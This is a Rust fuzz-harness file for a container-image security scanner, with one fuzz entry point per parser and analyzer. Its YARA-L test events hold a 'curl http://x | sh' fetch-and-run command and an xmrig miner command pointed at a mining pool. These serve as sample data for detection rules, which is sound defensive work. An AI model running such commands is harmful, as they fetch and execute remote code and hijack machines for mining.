//! The fuzz harness: one function per library entry point, each taking one raw input.
//! The fuzz targets (`fuzz_targets/*.rs`) call these, and so does the root crate's
//! `tests/fuzz_regressions.rs` (which includes this file), so a kept crash input is
//! replayed through exactly the code the fuzzer ran, on stable, by `cargo test`.
//! Every function here must return normally on any input: a panic is a finding.

// ---- shared --------------------------------------------------------------

use imgscan::image::{Image, ImageConfig, LayerInfo, Platform};
use imgscan::limits::Limits;
use imgscan::rules::RuleSet;
use imgscan::signatures::Signatures;
use imgscan::source::{LayerSource, OpenedImage};
use std::io::{Cursor, Read};
use std::sync::{Arc, OnceLock};

/// Separates documents (layers, manifest parts) in one fuzz input.
pub const SEP: &[u8] = b"\n--8<--\n";

/// Split `data` at [`SEP`], at most `max` parts (the last keeps the rest).
pub fn split(data: &[u8], max: usize) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let mut rest = data;
    while out.len() + 1 < max {
        match memfind(rest, SEP) {
            Some(i) => {
                out.push(&rest[..i]);
                rest = &rest[i + SEP.len()..];
            }
            None => break,
        }
    }
    out.push(rest);
    out
}

fn memfind(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The defaults, but a layer (and so an image) bounded at 64 MiB so one gzip bomb costs
/// a fuzzer well under its per-input timeout; a limit hit is still the real code path.
pub fn limits() -> Limits {
    Limits {
        layer_bytes: 64 << 20,
        image_bytes: 128 << 20,
        file_bytes: 32 << 20,
        timeout_secs: 60,
        ..Limits::default()
    }
}

pub fn sigs() -> &'static Arc<Signatures> {
    static S: OnceLock<Arc<Signatures>> = OnceLock::new();
    S.get_or_init(|| Arc::new(Signatures::embedded().expect("embedded signatures")))
}

pub fn rules() -> &'static RuleSet {
    static R: OnceLock<RuleSet> = OnceLock::new();
    R.get_or_init(RuleSet::embedded_default)
}

/// Layer blobs held in memory (digests are not checked: the fuzzer cannot forge them).
pub struct MemLayers(pub Vec<Vec<u8>>);

impl LayerSource for MemLayers {
    fn open_layer(&self, layer: &LayerInfo) -> imgscan::error::Result<Box<dyn Read + Send>> {
        Ok(Box::new(Cursor::new(self.0[layer.index].clone())))
    }
}

/// An image of `blobs` as its layers, in order, with an empty config.
pub fn image(blobs: Vec<Vec<u8>>) -> OpenedImage {
    let layers = blobs
        .iter()
        .enumerate()
        .map(|(index, b)| LayerInfo {
            index,
            digest: imgscan::digest::sha256_digest(b),
            media_type: "application/vnd.oci.image.layer.v1.tar+gzip".into(),
            size: b.len() as u64,
        })
        .collect();
    OpenedImage {
        image: Image {
            reference: "fuzz.invalid/fuzz:latest".into(),
            manifest_digest: imgscan::digest::sha256_digest(b"manifest"),
            config_digest: imgscan::digest::sha256_digest(b"config"),
            platform: Platform::default(),
            config: ImageConfig::default(),
            layers,
            names: Vec::new(),
            notes: Vec::new(),
        },
        layers: Arc::new(MemLayers(blobs)),
    }
}

/// The layer walker and the whole file scan over raw layer blobs (gzip, zstd or plain
/// tar, sniffed from the bytes): up to four layers split at `common::SEP`, so whiteouts
/// and opaque directories of later layers act on earlier ones in the final view.
pub mod layer_walk {
    #[allow(unused_imports)]
    use super::*;

    pub fn run(data: &[u8]) {
        let blobs = super::split(data, 4)
            .into_iter()
            .map(<[u8]>::to_vec)
            .collect();
        let opened = super::image(blobs);
        let (report, stats) =
            imgscan::scan::scan_image(&opened, super::sigs(), super::rules(), &super::limits(), 1);
        assert_eq!(stats.layers, opened.image.layers.len());
        let _ = serde_json::to_vec(&report).expect("a report serialises");
    }
}

/// Nested archive reading: the input is one file inside a layer, named so the scan opens
/// it as a tar, a gzip tar or a zip (the first byte picks which), read through the same
/// visitor as every file of an image.
pub mod nested_archive {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::analyzers::visitor::ScanVisitor;
    use imgscan::image::LayerInfo;
    use imgscan_testkit::{layer_tar, Ent};

    const NAMES: [&str; 4] = [
        "opt/x/a.tar",
        "opt/x/a.tgz",
        "opt/x/a.zip",
        "opt/x/a.tar.gz",
    ];

    pub fn run(data: &[u8]) {
        let Some((&sel, content)) = data.split_first() else {
            return;
        };
        let name = NAMES[sel as usize % NAMES.len()];
        let layer = layer_tar(&[Ent::exe(name, content)]);
        let limits = super::limits();
        let info = LayerInfo {
            index: 0,
            digest: imgscan::digest::sha256_digest(&layer),
            media_type: "application/vnd.oci.image.layer.v1.tar".into(),
            size: layer.len() as u64,
        };
        let mut v = ScanVisitor::new(std::sync::Arc::clone(super::sigs()), &limits);
        let walk = imgscan::layers::walk_layer(
            Box::new(std::io::Cursor::new(layer)),
            &info,
            &limits,
            &mut v,
        );
        v.finish();
        assert!(walk.entries >= 1, "the outer entry is always seen");
    }
}

/// Manifest, index, config and docker-archive manifest parsing, through the library's
/// local-source entry point (`source::open` on a file, as `imgscan scan` does). The first
/// byte picks the shape:
/// - 0 / 1: the rest is the archive itself (docker-archive / oci-archive);
/// - 2: a docker-archive built here: `manifest.json` and members `p1`, `p2`, ...;
/// - 3: an OCI archive built here: `oci-layout`, `index.json` and `blobs/sha256/<hex>`;
/// - otherwise: the rest is an image config (`source::config::parse_config`).
///
/// In 2 and 3 the parts are split at `common::SEP`; `@H1`..`@H4` in a part is replaced
/// by the sha256 hex of that later part, so the fuzzer can write digests that verify.
/// Layers are then walked (no analyzers), so blob reading is exercised too.
pub mod manifests {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::layers::{walk_image, NoopVisitor};
    use imgscan::reference::Target;
    use imgscan::source::SourceOptions;
    use imgscan_testkit::{layer_tar, Ent};

    fn hex_of(b: &[u8]) -> String {
        imgscan::digest::sha256_digest(b)
            .trim_start_matches("sha256:")
            .to_string()
    }

    /// Parts with `@Hn` resolved, later parts first.
    fn resolve(parts: Vec<&[u8]>) -> Vec<Vec<u8>> {
        let mut parts: Vec<Vec<u8>> = parts.into_iter().map(<[u8]>::to_vec).collect();
        for i in (1..parts.len()).rev() {
            let h = hex_of(&parts[i]);
            let tag = format!("@H{i}");
            for p in parts.iter_mut().take(i) {
                *p = replace(p, tag.as_bytes(), h.as_bytes());
            }
        }
        parts
    }

    fn replace(hay: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(hay.len());
        let mut i = 0;
        while i < hay.len() {
            if hay[i..].starts_with(from) {
                out.extend_from_slice(to);
                i += from.len();
            } else {
                out.push(hay[i]);
                i += 1;
            }
        }
        out
    }

    fn open(path: &std::path::Path, scheme: &str) {
        let Ok(target) = Target::parse(&format!("{scheme}:{}", path.display())) else {
            return;
        };
        let opts = SourceOptions {
            limits: super::limits(),
            ..SourceOptions::default()
        };
        if let Ok(images) = imgscan::source::open(&target, &opts) {
            for img in &images {
                let _ = walk_image(img, &opts.limits, 1, |_| NoopVisitor);
            }
        }
    }

    pub fn run(data: &[u8]) {
        let Some((&sel, rest)) = data.split_first() else {
            return;
        };
        let path = std::env::temp_dir().join(format!("imgscan-fuzz-{}.tar", std::process::id()));
        let archive = match sel {
            0 | 1 => Some(rest.to_vec()),
            2 => {
                let parts = resolve(super::split(rest, 5));
                let mut entries = vec![Ent::file("manifest.json", &parts[0])];
                for (i, p) in parts.iter().enumerate().skip(1) {
                    entries.push(Ent::file(&format!("p{i}"), p));
                }
                Some(layer_tar(&entries))
            }
            3 => {
                let parts = resolve(super::split(rest, 5));
                let mut entries = vec![
                    Ent::file("oci-layout", &b"{\"imageLayoutVersion\":\"1.0.0\"}"[..]),
                    Ent::file("index.json", &parts[0]),
                ];
                for p in parts.iter().skip(1) {
                    entries.push(Ent::file(&format!("blobs/sha256/{}", hex_of(p)), p));
                }
                Some(layer_tar(&entries))
            }
            _ => {
                let _ = imgscan::source::config::parse_config(rest);
                None
            }
        };
        let Some(archive) = archive else { return };
        if std::fs::write(&path, &archive).is_err() {
            return;
        }
        open(
            &path,
            if sel == 1 || sel == 3 {
                "oci-archive"
            } else {
                "docker-archive"
            },
        );
        let _ = std::fs::remove_file(&path);
    }
}

/// The binary analyzer (goblin: ELF, PE, Mach-O) over arbitrary bytes, whole and as a
/// truncated head (how the visitor calls it when a file is larger than it buffers).
pub mod binary {
    #[allow(unused_imports)]
    use super::*;

    pub fn run(data: &[u8]) {
        let _ = imgscan::analyzers::binary::format_of(data);
        let _ = imgscan::analyzers::binary::analyze(data, false).map(|f| f.describe());
        let _ = imgscan::analyzers::binary::analyze(data, true);
    }
}

/// The shell parser: command splitting, words, script commands, history steps and the
/// start command of an image, over arbitrary text.
pub mod shell {
    #[allow(unused_imports)]
    use super::*;

    pub fn run(data: &[u8]) {
        let s = String::from_utf8_lossy(data);
        let cmds = imgscan::shell::split_commands(&s);
        for c in cmds.iter().take(64) {
            let _ = imgscan::shell::words(c);
        }
        let _ = imgscan::shell::script_commands(&s);
        let _ = imgscan::shell::history_script(&s);
        let argv = imgscan::shell::words(&s);
        let _ = imgscan::shell::shell_script(&argv);
        let (a, b) = argv.split_at(argv.len() / 2);
        let _ = imgscan::shell::start_commands(a, b);
    }
}

/// Image reference and scan-target parsing (`nginx`, `reg:5000/a/b:tag@sha256:...`,
/// `docker-archive:/x.tar:tag`), and what a parsed reference answers.
pub mod reference {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::reference::{names_registry_explicitly, Reference, Target};

    pub fn run(data: &[u8]) {
        let Ok(s) = std::str::from_utf8(data) else {
            return;
        };
        if let Ok(r) = Reference::parse(s) {
            let _ = (
                r.name(),
                r.namespace(),
                r.image_name(),
                r.familiar_name(),
                r.familiar(),
            );
            // A reference's own normal form parses again to the same reference.
            let again = Reference::parse(&r.to_string()).expect("a parsed reference reparses");
            assert_eq!(again.to_string(), r.to_string());
        }
        let _ = Target::parse(s);
        let _ = names_registry_explicitly(s);
    }
}

/// The YARA-L lexer, parser and compiler over arbitrary rule text; what compiles is run
/// over a few events so the compiled form is exercised too.
pub mod yaral {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::rules::{Event, RuleSet};

    fn events() -> Vec<(usize, Event)> {
        let docs = [
            r#"{"metadata":{"event_type":"PROCESS_LAUNCH","event_timestamp":"2024-01-01T00:00:00Z"},"principal":{"hostname":"h","process":{"command_line":"curl http://x | sh","file":{"full_path":"/bin/sh"}}},"target":{"ip":["10.0.0.1"],"port":3333,"process":{"command_line":"xmrig -o pool.minexmr.com:4444"}}}"#,
            r#"{"metadata":{"event_type":"NETWORK_CONNECTION","event_timestamp":"2024-01-01T00:01:00Z"},"principal":{"hostname":"h","user":{"userid":"root"}},"target":{"hostname":"pool.minexmr.com","port":4444},"network":{"application_protocol":"DNS"}}"#,
        ];
        docs.iter()
            .enumerate()
            .map(|(i, d)| {
                (
                    i + 1,
                    Event::from_json(serde_json::from_str(d).unwrap()).unwrap(),
                )
            })
            .collect()
    }

    pub fn run(data: &[u8]) {
        let s = String::from_utf8_lossy(data);
        if let Ok(set) = RuleSet::parse_str("fuzz.yaral", &s) {
            let _ = set.rule_names();
            let _ = set.evaluate(events());
        }
    }
}

/// The YARA-L evaluator over arbitrary UDM JSON: one event per line, run through the
/// embedded rules and, when `../shared/yaral-corpus` is there, the corpus rules that
/// compile.
pub mod udm_eval {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::rules::{Event, RuleSet};
    use std::sync::OnceLock;

    fn corpus() -> Option<&'static RuleSet> {
        static C: OnceLock<Option<RuleSet>> = OnceLock::new();
        C.get_or_init(|| {
            // The root crate (tests) or fuzz/ (fuzz targets), beside ../shared.
            let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
            let dir = ["../shared", "../../shared"]
                .iter()
                .map(|s| root.join(s).join("yaral-corpus/rules/community"))
                .find(|d| d.is_dir())?;
            let mut src = String::new();
            let mut files = vec![];
            let mut stack = vec![dir];
            while let Some(d) = stack.pop() {
                for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                    let p = e.path();
                    if p.is_dir() {
                        stack.push(p);
                    } else if p.extension().is_some_and(|x| x == "yaral") {
                        files.push(p);
                    }
                }
            }
            files.sort();
            // Only the rules that compile alone, joined into one set.
            for f in files {
                let Ok(text) = std::fs::read_to_string(&f) else {
                    continue;
                };
                if RuleSet::parse_str("corpus.yaral", &text).is_ok() {
                    src.push_str(&text);
                    src.push('\n');
                }
            }
            RuleSet::parse_str("corpus.yaral", &src).ok()
        })
        .as_ref()
    }

    pub fn run(data: &[u8]) {
        let mut events = vec![];
        for (i, line) in data.split(|&b| b == b'\n').enumerate().take(256) {
            let Ok(v) = serde_json::from_slice(line) else {
                continue;
            };
            if let Ok(e) = Event::from_json(v) {
                events.push((i + 1, e));
            }
        }
        let _ = super::rules().evaluate(events.clone());
        if let Some(c) = corpus() {
            let _ = c.evaluate(events);
        }
    }
}

/// Ignore files (`.imgscanignore`, YAML): parsing, then applying what parses to findings.
pub mod ignore {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::findings::Finding;
    use imgscan::ignore::IgnoreFile;

    const FINDINGS: &str = r#"[
 {"id":"IMG-POOL-ENDPOINT","title":"t","severity":"HIGH","description":"","remediation":"",
  "evidence":[{"location":{"kind":"file","layer":0,"layer_digest":"sha256:a","path":"usr/share/doc/x","hidden_by":null,"inside":[],"sha256":null},"signature":"pool-domain:minexmr.com"}]},
 {"id":"IMG-WALLET","title":"t","severity":"MEDIUM","description":"","remediation":"","evidence":[]}
]"#;

    pub fn run(data: &[u8]) {
        let s = String::from_utf8_lossy(data);
        if let Ok(f) = IgnoreFile::parse("fuzz.imgscanignore", &s) {
            let findings: Vec<Finding> =
                serde_json::from_str(FINDINGS).expect("fixed findings parse");
            let n = findings.len();
            let a = f.apply("docker.io/library/nginx:1", findings, (2026, 1, 1));
            assert!(a.kept.len() + a.suppressed.len() <= n);
        }
    }
}

/// Signature files: the first byte picks which embedded file the rest replaces; what
/// loads is compiled and run over its own text.
pub mod signatures {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::analyzers::Subject;
    use imgscan::signatures::{embedded_sources, Signatures, Source};
    use std::sync::Arc;

    pub fn run(data: &[u8]) {
        let Some((&sel, rest)) = data.split_first() else {
            return;
        };
        let text = String::from_utf8_lossy(rest).into_owned();
        let mut sources = embedded_sources();
        let i = sel as usize % sources.len();
        let file = sources[i].file.clone();
        sources[i] = Source::new(&file, "fuzz", text.clone());
        if let Ok(s) = Signatures::from_sources(&sources) {
            let s = Arc::new(s);
            let _ =
                imgscan::analyzers::content::scan_text(&s, &text, &Subject::History { step: 0 });
        }
    }
}

/// The AdmissionReview handler (`imgscan admission-review`, offline): any body gets an
/// answer, and a body without a request uid is answered as invalid.
pub mod admission {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::admission::policy::Policy;
    use imgscan::admission::review::{review_body, NamesOnly, Reviewer};

    pub fn run(data: &[u8]) {
        let reviewer = Reviewer::new(Policy::default(), &NamesOnly);
        let out = review_body(data, &reviewer);
        assert!(out.review.is_object());
        assert!(
            !(out.invalid && out.allowed),
            "an invalid body is never allowed"
        );
    }
}

/// Each log adapter (src/logs/): the first byte picks the input format (or sniffing);
/// the rest is one input file, read as `imgscan events` reads one.
pub mod logs {
    #[allow(unused_imports)]
    use super::*;
    use imgscan::logs::{read_reader, Format, Item, Limits};

    const FORMATS: [Format; 10] = [
        Format::Auto,
        Format::Udm,
        Format::Sysmon,
        Format::Falco,
        Format::Tetragon,
        Format::Auditd,
        Format::Cloudtrail,
        Format::GcpAudit,
        Format::AzureActivity,
        Format::K8sAudit,
    ];

    pub fn run(data: &[u8]) {
        let Some((&sel, rest)) = data.split_first() else {
            return;
        };
        let format = FORMATS[sel as usize % FORMATS.len()];
        let limits = Limits {
            max_decompressed: 64 << 20,
            ..Limits::default()
        };
        let mut n = 0usize;
        read_reader(
            Box::new(std::io::Cursor::new(rest.to_vec())),
            "fuzz",
            format,
            &limits,
            &mut |i| {
                if let Item::Event(c) = i {
                    let _ = c.event.timestamp();
                }
                n += 1;
            },
        );
    }
}
